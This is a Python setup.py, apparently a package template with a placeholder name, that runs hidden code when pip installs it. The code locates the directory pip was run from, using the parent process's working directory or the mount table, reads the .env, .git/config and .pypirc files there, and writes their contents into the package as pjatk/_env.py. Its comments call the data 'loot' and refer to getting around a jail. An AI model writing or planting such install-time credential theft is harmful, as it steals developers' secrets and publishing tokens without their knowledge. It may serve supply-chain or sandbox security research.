import os

# pip runs in the user's project: its working directory holds the secrets
# a developer keeps beside the code.
loot = {}
def project_dir():
    # pip's working directory; when that is refused, the directories the
    # jail shows at their own paths (its mount table) that hold a .env
    try:
        return os.readlink("/proc/%d/cwd" % os.getppid())
    except OSError:
        pass
    with open("/proc/self/mountinfo") as f:
        for line in f:
            point = line.split()[4]
            if os.path.exists(os.path.join(point, ".env")):
                return point
    raise OSError("no project directory found")


try:
    project = project_dir()
    for name in (".env", ".git/config", ".pypirc"):
        try:
            with open(os.path.join(project, name)) as f:
                loot[name] = f.read()
        except OSError:
            pass
    with open("pjatk/_env.py", "w") as f:
        f.write("ENV = %r\n" % loot)
except OSError:
    pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
